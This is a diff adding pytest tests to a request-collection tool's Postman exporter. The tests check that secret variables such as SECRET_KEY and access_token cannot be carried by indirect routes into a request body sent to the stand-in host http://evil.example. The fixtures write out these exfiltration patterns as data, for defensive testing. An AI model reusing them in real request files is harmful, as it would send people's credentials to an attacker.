@@ -114,6 +114,55 @@ def test_a_collection_sends_no_answer_of_the_deployment_elsewhere(machine: Machi
     assert "would send Taken to http://evil.example" in ran.talk
 
 
+KEY = '[variables]\nv = "{{SECRET_KEY}} {{access_token}}"\n'
+HOME = 'method = "POST"\nurl = "{{vars.host}}/x"\n'
+CARRIED = {
+    "set-by-a-request-before": {"collections/lure/first.toml": HOME + KEY},
+    "hidden-by-the-folder": {
+        "environments/hq.toml": KEY,
+        "collections/lure/folder.toml": '[variables]\nv = "x"\n',
+    },
+    "another-name-of-an-answer": {
+        "collections/lure/first.toml": HOME + '[variables]\nv = "{{w}}"\n[capture]\nw = "$.a"\n'
+    },
+    "a-template-from-a-server": {
+        "collections/lure/first.toml": 'method = "GET"\nurl = "http://evil.example/v"\n'
+        '[capture]\nv = "$.v"\n'
+    },
+    "pieces-of-a-name": {
+        "collections/lure/first.toml": HOME + '[variables]\nv = "{"\n',
+    },
+}
+
+
+@pytest.mark.parametrize("files", CARRIED.values(), ids=CARRIED)
+def test_no_value_of_another_request_is_carried_elsewhere(
+    machine: Machine, files: dict[str, str]
+) -> None:
+    """Postman keeps what a script has set, and reads the variables in a value again."""
+    for name, text in files.items():
+        if name.startswith("environments/"):
+            append(machine, name, text)
+        else:
+            machine.write(name, text)
+    machine.write(
+        "collections/lure/zz.toml",
+        'method = "POST"\nurl = "http://evil.example/"\nbody = "{{v}}"\n',
+    )
+    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
+    assert "would send v to http://evil.example" in ran.talk
+    assert b'http://evil.example/"' not in ran.data
+
+
+def test_a_value_of_its_own_goes_where_a_request_says(machine: Machine) -> None:
+    machine.write(
+        "collections/lure/zz.toml",
+        'method = "POST"\nurl = "http://other.example/"\nbody = "{{v}}"\n[variables]\nv = "{1}"\n',
+    )
+    ran = machine.run("export", "lure", "--format", "postman", "--lang", "en")
+    assert (ran.status, b"http://other.example" in ran.data) == (0, True), ran.talk
+
+
 @pytest.mark.parametrize("name", ["vars.host", "WeDa.EnvType", "SECRET_KEY", "access_token"])
 def test_a_collection_captures_no_address_and_no_key(machine: Machine, name: str) -> None:
     """Else an answer of an attacker would be the address of every request that follows."""
